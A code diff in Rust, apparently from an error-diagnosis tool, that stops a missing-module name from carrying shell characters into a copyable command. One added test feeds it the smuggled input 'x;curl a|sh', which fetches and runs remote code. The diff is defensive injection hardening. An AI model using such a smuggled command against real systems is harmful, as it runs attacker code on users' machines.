@@ -76,7 +76,12 @@ impl Symptom {
 fn missing_module(error: &str) -> Option<&str> {
     let rest = error.strip_prefix("ModuleNotFoundError: No module named ")?;
     let name = rest.strip_prefix('\'')?.split('\'').next()?;
-    name.split('.').next().filter(|name| !name.is_empty())
+    // It stands in a command that somebody copies.
+    let is_plain = |name: &&str| {
+        let mut letters = name.bytes();
+        !name.is_empty() && letters.all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+    };
+    name.split('.').next().filter(is_plain)
 }
 
 /// What is the same where the same went wrong over other data: the exception and its place; or the words without what is
@@ -141,6 +146,8 @@ mod tests {
             numpy
         );
         assert_eq!(kind("ModuleNotFoundError: No module named 'numpy'"), numpy);
+        let forged = kind("ModuleNotFoundError: No module named 'x;curl a|sh'");
+        assert_eq!(forged, Kind::Run);
         assert_eq!(kind("ModuleNotFoundError: odd (main.py:1)"), Kind::Run);
     }
 
